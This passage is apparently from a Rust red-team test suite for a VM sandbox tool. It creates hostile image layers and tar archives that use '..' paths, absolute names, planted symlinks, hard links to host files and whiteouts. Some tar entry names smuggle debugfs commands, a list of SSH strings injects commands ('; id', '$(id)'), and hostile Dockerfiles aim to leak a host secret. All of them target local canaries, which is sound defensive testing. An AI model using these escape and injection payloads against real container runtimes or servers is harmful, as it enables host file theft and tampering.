rel = '../' * 12 + canary.lstrip('/')
with tarfile.open(base) as t:
    manifest = json.load(t.extractfile('manifest.json'))[0]
    config = json.load(t.extractfile(manifest['Config']))
    layers = [t.extractfile(l).read() for l in manifest['Layers']]
def layer(entries):
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode='w', format=tarfile.GNU_FORMAT) as t:
        for name, kind, arg in entries:
            i = tarfile.TarInfo(name)
            i.mtime = 1704067200
            data = None
            if kind == 'file':
                data = arg.encode(); i.size = len(data)
            elif kind == 'dir':
                i.type = tarfile.DIRTYPE; i.mode = 0o755
            elif kind == 'sym':
                i.type = tarfile.SYMTYPE; i.linkname = arg
            elif kind == 'hard':
                i.type = tarfile.LNKTYPE; i.linkname = arg
            elif kind == 'owned':
                data = arg.encode(); i.size = len(data); i.uid = 4321; i.mode = 0o4755
            t.addfile(i, io.BytesIO(data) if data is not None else None)
    return buf.getvalue()
variants = {
    'dotdot': [[(rel + '/created', 'file', 'mlrt')]],
    'absolute': [[(canary + '/created', 'file', 'mlrt')]],
    'through-symlink': [[('d', 'sym', canary), ('d/created', 'file', 'mlrt')]],
    'symlink-next-layer': [[('d', 'sym', canary)], [('d/created', 'file', 'mlrt')]],
    'hardlink-host-file': [[('hl', 'hard', canary + '/secret')]],
    'hardlink-dotdot': [[('hl', 'hard', rel + '/secret')]],
    'hardlink-through-symlink': [[('d', 'sym', canary)], [('hl', 'hard', 'd/secret')]],
    'whiteout-through-symlink': [[('d', 'sym', canary)], [('d/.wh.secret', 'file', '')]],
    'opaque-through-symlink': [[('d', 'sym', canary)], [('d/.wh..wh..opq', 'file', '')]],
    'whiteout-dotdot': [[(rel + '/.wh.secret', 'file', '')]],
    'debugfs-injection': [[('x\nwrite ' + canary + '/secret /stolen\n', 'owned', 'mlrt')]],
    'debugfs-quote': [[('x" "/stolen2', 'owned', 'mlrt')]],
}
for name, extra in variants.items():
    ls = layers + [layer(e) for e in extra]
    diff_ids = ['sha256:' + hashlib.sha256(l).hexdigest() for l in ls]
    cfg = dict(config); cfg['rootfs'] = {'type': 'layers', 'diff_ids': diff_ids}
    cfg_bytes = json.dumps(cfg).encode()
    cfg_name = hashlib.sha256(cfg_bytes).hexdigest() + '.json'
    names = ['l%d/layer.tar' % i for i in range(len(ls))]
    m = json.dumps([{'Config': cfg_name, 'RepoTags': ['mltest/evil-%s:1' % name], 'Layers': names}]).encode()
    with tarfile.open(os.path.join(out, name + '.tar'), 'w') as t:
        for fname, data in [('manifest.json', m), (cfg_name, cfg_bytes)] + list(zip(names, ls)):
            i = tarfile.TarInfo(fname); i.size = len(data)
            t.addfile(i, io.BytesIO(data))
    print(name)
"#;

/// IMG: images whose layers try to write, link, delete or copy outside the directory they are
/// unpacked in (`..`, absolute names, symlinks planted by an earlier entry or layer, hard links
/// to host files, whiteouts through links, names that smuggle `debugfs` commands). The host
/// directory they aim at must not change; an image that is accepted must hold none of its
/// secret (checked by running it); a refused import must say why and leave nothing behind.
fn crafted_image_layers(_: &Hits) -> Vec<Row> {
    let work = tempfile::tempdir().unwrap();
    let canary = work.path().join("canary");
    std::fs::create_dir(&canary).unwrap();
    let marker = format!("mlrt-img-{}", std::process::id());
    std::fs::write(canary.join("secret"), &marker).unwrap();
    let before = dir_snapshot(&canary);
    let base = work.path().join("base.tar");
    let st = std::process::Command::new(repo_root().join("scripts/make-busybox-image"))
        .arg(&base)
        .args(["--format", "docker"])
        .stderr(std::process::Stdio::null())
        .status()
        .unwrap();
    assert!(st.success(), "make-busybox-image failed");
    let out = std::process::Command::new("python3")
        .args(["-c", EVIL_IMAGES])
        .arg(&base)
        .arg(work.path())
        .arg(&canary)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let variants: Vec<String> = String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(str::to_string)
        .collect();
    let mut leaked = Vec::new();
    let mut imported = 0;
    for v in &variants {
        let tag = format!("mltest/evil-{v}:1");
        let tar = std::fs::File::open(work.path().join(format!("{v}.tar"))).unwrap();
        let o = ml(&["image", "import", &tag]).stdin(tar).output().unwrap();
        let now = dir_snapshot(&canary);
        if now != before {
            leaked.push(format!(
                "{v}: the host directory changed: {:?}",
                now.iter().map(|(n, _)| n).collect::<Vec<_>>()
            ));
        }
        if !o.status.success() {
            let err = stderr(&o);
            if err.trim().is_empty() || err.contains("panicked") {
                leaked.push(format!("{v}: refused without a reason: {err}"));
            }
            eprintln!(
                "red team: images: {v}: refused: {}",
                err.trim().lines().last().unwrap_or("")
            );
            continue;
        }
        imported += 1;
        let r = run(&[
            "run",
            "--image",
            &tag,
            "--",
            "sh",
            "-c",
            "cat /hl /stolen /stolen2 /d/secret 2>/dev/null; grep -rl mlrt-img- /bin /etc /d /hl /x* 2>/dev/null; echo SCANNED",
        ]);
        let text = stdout(&r);
        if text.contains(&marker) {
            leaked.push(format!("{v}: the image holds the host file's contents"));
        }
        if !text.contains("SCANNED") {
            leaked.push(format!(
                "{v}: the imported image does not run: {}",
                stderr(&r)
            ));
        }
        let _ = run(&["image", "rm", &tag]);
    }
    eprintln!(
        "red team: images: {} variants, {imported} imported (contained), {} refused",
        variants.len(),
        variants.len() - imported
    );
    assert!(variants.len() >= 12, "the generator made {variants:?}");
    vec![Row {
        attack: "crafted image layers".into(),
        tried: variants.len(),
        leaked,
    }]
}

/// FLT: the supervisor or QEMU of a running sandbox killed with SIGKILL. The other goes too
/// (no guest left running without its supervisor's network and file policy, no supervisor
/// serving a dead VM), `exec` fails quickly with a reason, `list` stops calling it running, and
/// `gc` plus `rm` leave no process, socket or directory behind.
fn killed_components(_: &Hits) -> Vec<Row> {
    let mut leaked = Vec::new();
    for victim in ["supervisor", "qemu"] {
        let sb = Sandbox::detached(&[], &["sleep", "600"]);
        let sup = supervisor_pid(&sb.id);
        let qemu = *qemu_pids(&sb.id).first().expect("the sandbox's QEMU");
        let pid = if victim == "qemu" { qemu } else { sup };
        // SAFETY: kill has no memory-safety preconditions.
        unsafe { libc::kill(pid, libc::SIGKILL) };
        let alive = |p: i32| {
            Path::new(&format!("/proc/{p}")).exists() && {
                let st = std::fs::read_to_string(format!("/proc/{p}/stat")).unwrap_or_default();
                // A zombie has ended; only its parent's wait is missing.
                !st.rsplit_once(')')
                    .is_some_and(|(_, r)| r.trim_start().starts_with('Z'))
            }
        };
        if !wait_until(Duration::from_secs(15), || !alive(sup) && !alive(qemu)) {
            leaked.push(format!(
                "{victim} killed: supervisor alive {}, QEMU alive {} after 15 s",
                alive(sup),
                alive(qemu)
            ));
        }
        let t = Instant::now();
        let o = sb.exec(&["echo", "alive"]);
        if o.status.success()
            || stderr(&o).trim().is_empty()
            || t.elapsed() > Duration::from_secs(30)
        {
            leaked.push(format!(
                "{victim} killed: exec answered {:?} after {:?}: {}",
                o.status.code(),
                t.elapsed(),
                stderr(&o)
            ));
        }
        let status = sb.status();
        if status == "running" {
            leaked.push(format!("{victim} killed: list still says running"));
        }
        ok(run(&["gc"]));
        let dir = home().join("vms").join(&sb.id);
        let socks: Vec<String> = std::fs::read_dir(&dir)
            .into_iter()
            .flatten()
            .flatten()
            .filter(|e| e.file_name().to_string_lossy().ends_with(".sock"))
            .map(|e| e.path().display().to_string())
            .collect();
        if !socks.is_empty() {
            leaked.push(format!("{victim} killed: sockets left after gc: {socks:?}"));
        }
        let id = sb.id.clone();
        drop(sb);
        if dir.exists() || !qemu_pids(&id).is_empty() {
            leaked.push(format!(
                "{victim} killed: {} or a QEMU left after rm",
                dir.display()
            ));
        }
        eprintln!(
            "red team: killed {victim}: list said {status:?}, exec said {:?}",
            stderr(&o).trim()
        );
    }
    vec![Row {
        attack: "a sandbox's supervisor or QEMU killed".into(),
        tried: 2,
        leaked,
    }]
}

/// Where `matchlock` keeps pulled and imported images (`$MATCHLOCK_CACHE_DIR/images`, else
/// `~/.cache/matchlock/images`).
fn images_dir() -> std::path::PathBuf {
    match std::env::var_os("MATCHLOCK_CACHE_DIR").filter(|d| !d.is_empty()) {
        Some(d) => std::path::PathBuf::from(d).join("images"),
        None => Path::new(&std::env::var_os("HOME").unwrap_or_else(|| "/root".into()))
            .join(".cache/matchlock/images"),
    }
}

/// SSH egress (`--ssh-allow`): a real sshd in the namespace, reachable as `git.test`, that only
/// the host's key opens and that logs every command it is asked to run (and runs none). The
/// guest, holding no key, tries to make it run more than the one allowed command: shell
/// operators, expansions, a newline, other commands, a shell, a subsystem, and a stdio forward
/// to a canary through it. Control: the allowed command reaches the server.
fn ssh_egress_abuse(hits: &Hits) -> Vec<Row> {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    for k in ["host_key", "user_key"] {
        let st = std::process::Command::new("ssh-keygen")
            .args(["-q", "-t", "ed25519", "-N", "", "-f"])
            .arg(d.join(k))
            .status()
            .expect("ssh-keygen (apt-get install openssh-client)");
        assert!(st.success());
    }
    std::fs::copy(d.join("user_key.pub"), d.join("authorized_keys")).unwrap();
    let log = d.join("commands.log");
    let force = d.join("force.sh");
    std::fs::write(
        &force,
        format!(
            "#!/bin/sh\nprintf '%s\\n' \"$SSH_ORIGINAL_COMMAND\" >> {}\necho ran\n",
            log.display()
        ),
    )
    .unwrap();
    std::fs::set_permissions(&force, std::fs::Permissions::from_mode(0o755)).unwrap();
    std::fs::write(
        d.join("sshd_config"),
        format!(
            "Port 2222\nListenAddress 127.0.0.1\nHostKey {0}/host_key\n\
             AuthorizedKeysFile {0}/authorized_keys\nPasswordAuthentication no\n\
             KbdInteractiveAuthentication no\nPermitRootLogin prohibit-password\nUsePAM no\n\
             StrictModes no\nPidFile none\nForceCommand {1}\n",
            d.display(),
            force.display()
        ),
    )
    .unwrap();
    std::fs::create_dir_all("/run/sshd").unwrap();
    let mut sshd = std::process::Command::new("/usr/sbin/sshd")
        .args(["-D", "-e", "-f"])
        .arg(d.join("sshd_config"))
        .stderr(std::process::Stdio::null())
        .spawn()
        .expect("/usr/sbin/sshd (apt-get install openssh-server)");
    assert!(wait_until(Duration::from_secs(10), || {
        std::net::TcpStream::connect("127.0.0.1:2222").is_ok()
    }));
    let host_pub = std::fs::read_to_string(d.join("host_key.pub")).unwrap();
    std::fs::write(d.join("known_hosts"), format!("[git.test]:2222 {host_pub}")).unwrap();
    let (kh, key) = (
        d.join("known_hosts").display().to_string(),
        d.join("user_key").display().to_string(),
    );
    let injected = [
        "git-upload-pack 'repo.git'; id",
        "git-upload-pack 'repo.git' && id",
        "git-upload-pack 'repo.git' | id",
        "git-upload-pack $(id)",
        "git-upload-pack `id`",
        "git-upload-pack 'repo.git'\nid",
        "git-upload-pack 'repo.git' > /tmp/x",
        "git-upload-pack 'other.git'",
        "id",
    ];
    let script = format!(
        r#"
import subprocess
ssh = ['ssh', '-o', 'BatchMode=yes', '-o', 'ConnectTimeout=20', '-p', '2222']
def go(args, data=b''):
    try:
        subprocess.run(ssh + args, input=data, capture_output=True, timeout=60)
    except Exception as e:
        print('ssh failed', e)
go(['root@git.test', "git-upload-pack 'repo.git'"])
for c in {injected:?}:
    go(['root@git.test', c])
go(['-tt', 'root@git.test'], b'id\nexit\n')
go(['-s', 'root@git.test', 'sftp'])
go(['-W', '{OPENED}:80', 'root@git.test'], b'GET /ssh-forward HTTP/1.0\r\n\r\n')
print('SCRIPT-DONE')
"#
    );
    let before = hits_with(hits, "ssh-forward").len();
    let _ = python(
        &[
            "--add-host",
            "git.test:127.0.0.1",
            "--allow-private-host",
            "127.0.0.1",
            "--ssh-allow",
            "git.test:2222",
            "--ssh-known-hosts",
            &kh,
            "--ssh-key",
            &key,
            "--ssh-exec",
            // A glob wide enough that only the plain-command check stops the injections.
            "allow:git-upload-pack 'repo*",
        ],
        &script,
    );
    let _ = sshd.kill();
    let _ = sshd.wait();
    let ran = std::fs::read_to_string(&log).unwrap_or_default();
    let ran: Vec<&str> = ran.lines().collect();
    assert!(
        ran.contains(&"git-upload-pack 'repo.git'"),
        "ssh egress: the allowed command never reached the server: {ran:?}"
    );
    let mut leaked: Vec<String> = ran
        .iter()
        .filter(|c| **c != "git-upload-pack 'repo.git'")
        .map(|c| format!("the server was asked to run {c:?}"))
        .collect();
    if hits_with(hits, "ssh-forward").len() > before {
        leaked.push("a stdio forward reached a canary".into());
    }
    vec![Row {
        attack: "SSH egress made to run more than its allowed command".into(),
        tried: injected.len() + 3,
        leaked,
    }]
}

/// One HTTP/1.0 GET through the gateway at `addr`; the status line, or `None` when nothing
/// came back within `wait`.
fn http_status(addr: &str, path: &str, wait: Duration) -> Option<String> {
    let mut s = std::net::TcpStream::connect(addr).ok()?;
    s.set_read_timeout(Some(wait)).ok()?;
    s.write_all(format!("GET {path} HTTP/1.0\r\nHost: x\r\n\r\n").as_bytes())
        .ok()?;
    let mut got = Vec::new();
    let _ = s.read_to_end(&mut got);
    let text = String::from_utf8_lossy(&got).into_owned();
    text.starts_with("HTTP/").then_some(text)
}

/// The ingress routes file is the guest's to write and the host's gateway reads it. The guest
/// makes it huge, endless, blocking, not a file, binary, rewritten without pause, or naming
/// addresses beyond its own loopback. None may hang or kill the gateway, or make it send a
/// byte anywhere but the sandbox's loopback (the canaries).
fn ingress_routes_file_abuse(hits: &Hits) -> Vec<Row> {
    const F: &str = "/etc/matchlock/ingress-routes";
    let sb = Sandbox::detached(
        &[],
        &[
            "sh",
            "-c",
            "mkdir -p /www && echo ingress-page > /www/index.html && \
             exec httpd -f -p 127.0.0.1:8080 -h /www",
        ],
    );
    let mut gw = ml(&["ingress", &sb.id, "--route", "/=8080"])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let url = first_line(gw.stdout.take().unwrap());
    let addr = url
        .trim()
        .trim_start_matches("http://")
        .trim_end_matches('/')
        .to_string();
    // Control: the page comes through the gateway.
    let page = || {
        http_status(&addr, "/", Duration::from_secs(10)).is_some_and(|t| t.contains("ingress-page"))
    };
    assert!(
        wait_until(Duration::from_secs(30), page),
        "control: the gateway at {addr} does not serve the guest's page"
    );
    let variants: &[(&str, &str)] = &[
        (
            "1.1 MB of routes",
            "yes '/x :10.0.0.1:80' | head -c 1100000 > $F",
        ),
        ("a link to /dev/zero", "rm -rf $F; ln -s /dev/zero $F"),
        ("a FIFO nobody writes", "rm -rf $F; mkfifo $F"),
        ("a directory", "rm -rf $F; mkdir $F"),
        (
            "routes to addresses beyond the loopback",
            "printf '/a 10.0.0.1:80\\n/b http://10.9.9.9/\\n/c :0\\n/d :65536\\n/e [::1]:80\\n\
             /f 169.254.169.254:80\\n/g 10.9.9.9:80 strip\\n/h :10.9.9.9:80\\n' > $F",
        ),
        (
            "binary and NUL bytes",
            "rm -rf $F; head -c 8000 /dev/urandom > $F; printf '/z\\0:80\\n' >> $F",
        ),
        (
            "rewritten without pause",
            "(i=0; while [ $i -lt 3000 ]; do echo \"/r$i :10.0.0.1\" > $F; i=$((i+1)); done) \
             >/dev/null 2>&1 & echo $! > /tmp/rewriter",
        ),
    ];
    let before = hits.lock().unwrap().len();
    let mut leaked = Vec::new();
    for (name, script) in variants {
        let o = sb.exec(&[
            "sh",
            "-c",
            &format!("F={F}; mkdir -p /etc/matchlock; {script}"),
        ]);
        assert!(o.status.success(), "{name}: {}", stderr(&o));
        // The gateway rereads the file at most once a second, and only while requests come.
        for _ in 0..3 {
            let _ = http_status(&addr, "/", Duration::from_secs(10));
            std::thread::sleep(Duration::from_millis(600));
        }
        for path in ["/", "/a", "/b", "/f", "/g", "/h", "/x"] {
            if http_status(&addr, path, Duration::from_secs(10)).is_none() {
                leaked.push(format!("{name}: GET {path} got no answer within 10 s"));
                break;
            }
        }
        if gw.try_wait().ok().flatten().is_some() {
            leaked.push(format!("{name}: the gateway exited"));
            break;
        }
        let restore = format!(
            "if [ -f /tmp/rewriter ]; then kill $(cat /tmp/rewriter) 2>/dev/null; rm /tmp/rewriter; fi; \
             rm -rf {F}; echo '/ :8080' > {F}"
        );
        let o = sb.exec(&["sh", "-c", &restore]);
        assert!(o.status.success(), "{}", stderr(&o));
    }
    // Back to the good file: the gateway serves the page again (it never stopped reading).
    if !wait_until(Duration::from_secs(20), page) {
        leaked.push("the gateway did not take a good routes file after the abuse".into());
    }
    for (w, b) in hits.lock().unwrap()[before..].iter() {
        leaked.push(format!(
            "a canary saw {w}: {:?}",
            String::from_utf8_lossy(&b[..b.len().min(80)])
        ));
    }
    let _ = gw.kill();
    let _ = gw.wait();
    vec![Row {
        attack: "a hostile ingress routes file".into(),
        tried: variants.len(),
        leaked,
    }]
}

/// A tar made here, for `ADD`: `(name, kind, arg)` with kind `file` (arg: content), `sym` or
/// `hard` (arg: target).
fn evil_tar(entries: &[(&str, &str, &str)]) -> Vec<u8> {
    let mut b = tar::Builder::new(Vec::new());
    for (name, kind, arg) in entries {
        let mut h = tar::Header::new_gnu();
        h.set_mode(0o644);
        h.set_mtime(1_704_067_200);
        // Names set raw: the tar crate's own setters refuse `..` and absolute names.
        let raw = name.as_bytes();
        h.as_old_mut().name[..raw.len()].copy_from_slice(raw);
        match *kind {
            "file" => {
                h.set_entry_type(tar::EntryType::Regular);
                h.set_size(arg.len() as u64);
                h.set_cksum();
                b.append(&h, arg.as_bytes()).unwrap();
            }
            link => {
                h.set_entry_type(if link == "sym" {
                    tar::EntryType::Symlink
                } else {
                    tar::EntryType::Link
                });
                h.set_size(0);
                let raw = arg.as_bytes();
                h.as_old_mut().linkname[..raw.len()].copy_from_slice(raw);
                h.set_cksum();
                b.append(&h, std::io::empty()).unwrap();
            }
        }
    }
    b.into_inner().unwrap()
}

/// BLD: a hostile repository built with `matchlock build` (its Dockerfile and every file in its
/// context the attacker's). Links in the context to a host directory holding a secret (absolute,
/// `..`-relative, a whole directory, matched by a glob), sources outside the context, a
/// `Dockerfile` that is a link to the secret (a parse error would quote it), `ADD` archives that
/// write through `..`, absolute names, planted links or hard links, a stage whose links point at
/// the host path for a later `COPY --from`, a `RUN` that plants a link a later `COPY` writes
/// through, `RUN --mount`s whose bind source or cache id lead out, and a `RUN` that fills its
/// disk. The host directory must not change; no build's
/// output and no built image (its exported bytes) may hold the secret; a refused build says why
/// and leaves no sandbox and no temporary file in the image store.
fn hostile_build_context(hits: &Hits) -> Vec<Row> {
    let work = tempfile::tempdir().unwrap();
    let canary = work.path().join("canary");
    std::fs::create_dir(&canary).unwrap();
    let marker = format!("mlrt-build-{}", std::process::id());
    std::fs::write(canary.join("secret"), &marker).unwrap();
    let before = dir_snapshot(&canary);
    let c = canary.display().to_string();
    let up = format!("{}{}", "../".repeat(16), c.trim_start_matches('/'));
    let from = format!("FROM {BUSYBOX}\n");
    // (name, Dockerfile, context links (name, target), archives (name, entries), extra flags)
    type Variant = (
        &'static str,
        String,
        Vec<(&'static str, String)>,
        Vec<(&'static str, Vec<u8>)>,
        Vec<&'static str>,
    );
    let mut variants: Vec<Variant> = vec![
        (
            "copy-link-to-host-file",
            format!("{from}COPY leak /leak\n"),
            vec![("leak", format!("{c}/secret"))],
            vec![],
            vec![],
        ),
        (
            "copy-through-absolute-dir-link",
            format!("{from}COPY etc/secret /x\n"),
            vec![("etc", c.clone())],
            vec![],
            vec![],
        ),
        (
            "copy-through-dotdot-dir-link",
            format!("{from}COPY up/secret /x\n"),
            vec![("up", up.clone())],
            vec![],
            vec![],
        ),
        (
            "copy-glob-through-link",
            format!("{from}COPY d*/secret /g/\n"),
            vec![("dl", c.clone())],
            vec![],
            vec![],
        ),
        (
            "copy-dir-holding-links",
            format!("{from}COPY . /ctx/\n"),
            vec![("etc", c.clone()), ("leak", format!("{c}/secret")), ("up", up.clone())],
            vec![],
            vec![],
        ),
        (
            "copy-dotdot-source",
            format!("{from}COPY {}/secret /x\n", up),
            vec![],
            vec![],
            vec![],
        ),
        (
            "copy-absolute-source",
            format!("{from}COPY {c}/secret /x\n"),
            vec![],
            vec![],
            vec![],
        ),
        (
            "dockerfile-is-a-link",
            String::new(),
            vec![("Dockerfile", format!("{c}/secret"))],
            vec![],
            vec![],
        ),
        (
            "dockerignore-is-a-link",
            format!("{from}COPY . /ctx/\n"),
            vec![(".dockerignore", format!("{c}/secret"))],
            vec![],
            vec![],
        ),
        (
            "add-archive-dotdot",
            format!("{from}ADD evil.tar /\n"),
            vec![],
            vec![(
                "evil.tar",
                evil_tar(&[(&format!("{up}/created"), "file", "pwn")]),
            )],
            vec![],
        ),
        (
            "add-archive-absolute",
            format!("{from}ADD evil.tar /\n"),
            vec![],
            vec![("evil.tar", evil_tar(&[(&format!("{c}/created"), "file", "pwn")]))],
            vec![],
        ),
        (
            "add-archive-link-then-write",
            format!("{from}ADD evil.tar /\n"),
            vec![],
            vec![(
                "evil.tar",
                evil_tar(&[("d", "sym", &c), ("d/created", "file", "pwn")]),
            )],
            vec![],
        ),
        (
            "add-archive-hardlink",
            format!("{from}ADD evil.tar /\n"),
            vec![],
            vec![(
                "evil.tar",
                evil_tar(&[("hl", "hard", &format!("{c}/secret"))]),
            )],
            vec![],
        ),
        (
            "copy-from-stage-file-link",
            format!("FROM {BUSYBOX} AS evil\nRUN ln -s {c}/secret /evil && ln -s {c} /evildir\n{from}COPY --from=evil /evil /x\n"),
            vec![],
            vec![],
            vec![],
        ),
        (
            "copy-from-stage-through-dir-link",
            format!("FROM {BUSYBOX} AS evil\nRUN ln -s {c}/secret /evil && ln -s {c} /evildir\n{from}COPY --from=evil /evildir/secret /y\n"),
            vec![],
            vec![],
            vec![],
        ),
        (
            "copy-from-stage-dir-link",
            format!("FROM {BUSYBOX} AS evil\nRUN ln -s {c}/secret /evil && ln -s {c} /evildir\n{from}COPY --from=evil /evildir /z/\n"),
            vec![],
            vec![],
            vec![],
        ),
        (
            "run-plants-link-copy-writes-through",
            format!(
                "{from}RUN mkdir -p {c} && ln -s {c} /planted\nCOPY f /planted/created\n\
                 COPY f {c}/created2\n"
            ),
            vec![],
            vec![],
            vec![],
        ),
        (
            "mount-bind-link-to-host",
            format!("{from}RUN --mount=type=bind,source=leak,target=/m cat /m > /x\n"),
            vec![("leak", format!("{c}/secret"))],
            vec![],
            vec![],
        ),
        (
            "mount-bind-dotdot-source",
            format!("{from}RUN --mount=type=bind,source={up},target=/m cat /m/secret > /x\n"),
            vec![],
            vec![],
            vec![],
        ),
        (
            "mount-cache-id-traversal",
            format!(
                "{from}RUN --mount=type=cache,id={up},target=/c echo pwn > /c/created; \
                 cat /c/secret > /x 2>/dev/null; true\n"
            ),
            vec![],
            vec![],
            vec![],
        ),
        (
            "run-fills-its-disk",
            format!("{from}RUN dd if=/dev/zero of=/big bs=1M count=400\n"),
            vec![],
            vec![],
            vec!["--disk-size", "64"],
        ),
    ];
    // `ADD URL` is fetched by the host: each blocked canary address, the host's loopback, and
    // (the control) the one address opened on purpose.
    let blocked_urls: Vec<String> = BLOCKED
        .iter()
        .map(|a| format!("http://{a}/mlrt-add"))
        .chain([format!("http://127.0.0.1:{LOOPBACK_PORT}/mlrt-add")])
        .collect();
    for url in &blocked_urls {
        variants.push((
            "add-url-to-a-blocked-address",
            format!("{from}ADD {url} /x\n"),
            vec![],
            vec![],
            vec![],
        ));
    }
    variants.push((
        "add-url-opened-control",
        format!("{from}ADD http://{OPENED}/mlrt-add-control /x\n"),
        vec![],
        vec![],
        vec!["--allow-private-host", OPENED],
    ));
    let images = images_dir();
    let temps = || -> Vec<String> {
        std::fs::read_dir(&images)
            .map(|d| {
                d.flatten()
                    .map(|e| e.file_name().to_string_lossy().into_owned())
                    .filter(|n| n.starts_with(".tmp"))
                    .collect()
            })
            .unwrap_or_default()
    };
    let temps_before = temps();
    let mut leaked = Vec::new();
    let mut built = 0;
    for (i, (name, dockerfile, links, archives, flags)) in variants.iter().enumerate() {
        let ctx = work.path().join(format!("ctx-{i}-{name}"));
        std::fs::create_dir(&ctx).unwrap();
        std::fs::write(ctx.join("f"), "plain\n").unwrap();
        if !dockerfile.is_empty() {
            std::fs::write(ctx.join("Dockerfile"), dockerfile).unwrap();
        }
        for (l, target) in links {
            std::os::unix::fs::symlink(target, ctx.join(l)).unwrap();
        }
        for (a, bytes) in archives {
            std::fs::write(ctx.join(a), bytes).unwrap();
        }
        let tag = format!("mltest/hostile-{i}-{name}:1");
        let mut args = vec!["build", "--no-cache", "-t", &tag];
        args.extend(flags.iter().copied());
        let ctx_arg = ctx.display().to_string();
        args.push(&ctx_arg);
        let o = run(&args);
        let said = format!("{}{}", stdout(&o), stderr(&o));
        // Case aside: a parse error quotes an instruction upper-cased.
        if said.to_lowercase().contains(&marker) {
            leaked.push(format!("{name}: the build's output holds the secret"));
        }
        let now = dir_snapshot(&canary);
        if now != before {
            leaked.push(format!(
                "{name}: the host directory changed: {:?}",
                now.iter().map(|(n, _)| n).collect::<Vec<_>>()
            ));
            let _ = std::fs::remove_file(canary.join("created"));
            let _ = std::fs::remove_file(canary.join("created2"));
        }
        if !o.status.success() {
            if stderr(&o).trim().is_empty() || said.contains("panicked") {
                leaked.push(format!("{name}: refused without a reason: {said}"));
            }
            eprintln!(
                "red team: build: {name}: refused: {}",
                stderr(&o).trim().lines().last().unwrap_or("")
            );
            continue;
        }
        built += 1;
        let out = work.path().join(format!("{name}.tar"));
        let e = run(&["image", "export", &tag, "-o", out.to_str().unwrap()]);
        assert!(e.status.success(), "{name}: export: {}", stderr(&e));
        let bytes = std::fs::read(&out).unwrap();
        if bytes.windows(marker.len()).any(|w| w == marker.as_bytes()) {
            leaked.push(format!("{name}: the built image holds the secret"));
        }
        eprintln!("red team: build: {name}: built (contained)");
        let _ = run(&["image", "rm", &tag]);
    }
    if hits_with(hits, "mlrt-add-control").is_empty() {
        panic!("control: the opened address never saw the ADD's request");
    }
    for h in hits_with(hits, "mlrt-add ") {
        leaked.push(format!("an ADD URL reached a blocked address: {h}"));
    }
    let left = temps()
        .into_iter()
        .filter(|t| !temps_before.contains(t))
        .collect::<Vec<_>>();
    if !left.is_empty() {
        leaked.push(format!("temporary files left in the image store: {left:?}"));
    }
    let running = stdout(&run(&["list", "--running"]));
    if running.lines().count() > 1 {
        leaked.push(format!("sandboxes left running: {running}"));
    }
    eprintln!(
        "red team: build: {} variants, {built} built (contained), {} refused",
        variants.len(),
        variants.len() - built
    );
    vec![Row {
        attack: "hostile build context".into(),
        tried: variants.len(),
        leaked,
    }]
}
